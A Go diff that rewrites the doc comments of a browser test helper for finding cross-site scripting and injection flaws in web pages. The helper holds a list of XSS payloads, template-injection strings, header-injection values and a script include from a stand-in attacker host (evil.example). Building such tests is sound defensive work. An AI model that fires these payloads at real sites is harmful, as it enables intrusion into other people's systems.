@@ -13,10 +13,10 @@ import (
 	"github.com/chromedp/chromedp"
 )
 
-// breakouts end whatever a text may stand in: an attribute, an element, a comment, a script.
+// breakouts end each place in which a page may put a text: an attribute, an element, a comment, a script.
 var breakouts = []string{"", `"`, `">`, `'>`, `</textarea>`, `</title>`, `</option></select>`, `</script>`, `--><!-- -->`, "`>", `\">`}
 
-// scripts run hit, or fetch something that would, where a page lets them.
+// scripts call hit, or load something that would call it, if a page lets them run.
 var scripts = []string{
 	`<script>hit()</script>`, `<ScRiPt>hit()</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<svg onload=hit()>`, `<svg><script>hit()</script></svg>`,
 	`<img src=x onerror=hit()>`, `<iframe srcdoc="<script>top.hit()</script>"></iframe>`, `<a href="javascript:hit()">x</a>`, `<details open ontoggle=hit()>`,
@@ -25,7 +25,7 @@ var scripts = []string{
 	`<math><mtext><img src=x onerror=hit()></mtext></math>`,
 }
 
-// oddities are what templates, addresses, encodings and writing systems make of a text.
+// unusualTexts have a meaning for templates, URLs, encodings or writing systems.
 var unusualTexts = []string{
 	`{{.}}`, `{{7*7}}`, `{{template "title" .}}`, "{{`x`}}", `{{constructor.constructor('hit()')()}}`, `${hit()}`, `#{7*7}`, `<%= hit() %>`, `<% 7*7 %>`, `{% debug %}`, `[[7*7]]`,
 	`<?php hit() ?>`, `%s%n%x`, `{0}`, `{organisation}`, `*{7*7}`, `javascript:hit()`, `JaVaScRiPt:hit()`, "java\tscript:hit()", `data:text/html,<script>hit()</script>`, `vbscript:hit()`,
@@ -35,7 +35,7 @@ var unusualTexts = []string{
 	"Ana\r\nBcc: x@evil.example", "Ana\nLi", "Ana\r\n\r\n<script>hit()</script>", strings.Repeat("<b>long</b>", 120), strings.Repeat("x", 1500) + "<script>hit()</script>", strings.Repeat("W", 90), "A\x00na", "<<<>>>", `&&amp;&`, `""''`,
 }
 
-// Hostile lists more than 200 texts by which people have made pages do what they want.
+// HostileTexts returns more than 200 texts that are known from attacks on web pages.
 func HostileTexts() []string {
 	all := slices.Clone(unusualTexts)
 	for _, breakout := range breakouts {
@@ -46,11 +46,11 @@ func HostileTexts() []string {
 	return all
 }
 
-// Harmless is a text as people write it.
+// HarmlessText is a normal first name.
 const HarmlessText = "Ana"
 
-// Watch notes what goes wrong in a browser's pages: scripts that ran hit, complaints about the content security policy, errors,
-// dialogs, and words on the console. It answers what was noted so far.
+// WatchErrors records what goes wrong in the browser's pages: calls of hit by scripts, violations of the content
+// security policy, errors, dialogs, and output on the console. The function it returns lists what was recorded so far.
 func WatchErrors(t testing.TB, ctx context.Context) func() []string {
 	t.Helper()
 	var mu sync.Mutex
@@ -66,7 +66,7 @@ func WatchErrors(t testing.TB, ctx context.Context) func() []string {
 		case *page.EventJavascriptDialogOpening:
 			wrong = append(wrong, "dialog: "+e.Message)
 		case *log.EventEntryAdded:
-			if e.Entry.Source != log.SourceNetwork { // pages of 404 and 422 are noted so
+			if e.Entry.Source != log.SourceNetwork { // the browser reports pages with status 404 and 422 as network entries
 				wrong = append(wrong, string(e.Entry.Source)+": "+e.Entry.Text)
 			}
 		}
@@ -85,7 +85,7 @@ func WatchErrors(t testing.TB, ctx context.Context) func() []string {
 	}
 }
 
-// anatomy lists kinds of elements with each of their attributes, and addresses of other hosts.
+// pageStructureScript lists the kinds of elements with each of their attributes, and the addresses of other hosts.
 const pageStructureScript = `(() => {
 	const kinds = new Set()
 	for (const e of document.querySelectorAll("*")) {
@@ -101,8 +101,8 @@ const pageStructureScript = `(() => {
 	return [...kinds].sort()
 })()`
 
-// Anatomy lists what the page now in the browser is made of, each kind once: elements ("a"), their attributes ("a[href]"), and
-// addresses that lead off its host. A text that is only shown adds nothing to it.
+// PageStructure returns what the browser's current page consists of, each kind once: elements ("a"), their attributes
+// ("a[href]"), and addresses on other hosts. A text that is only shown adds nothing.
 func PageStructure(t testing.TB, ctx context.Context) (kinds []string) {
 	t.Helper()
 	if err := chromedp.Run(ctx, chromedp.Evaluate(pageStructureScript, &kinds)); err != nil {
@@ -111,7 +111,7 @@ func PageStructure(t testing.TB, ctx context.Context) (kinds []string) {
 	return kinds
 }
 
-// Plain is a text without what browsers leave out of fields: line ends, nulls, and space at its ends.
+// FieldText returns text as a browser's field keeps it: without line ends, nulls, and space at its ends.
 func FieldText(text string) string {
 	return strings.TrimSpace(strings.Map(func(r rune) rune {
 		if strings.ContainsRune("\r\n\x00\ufffd", r) {
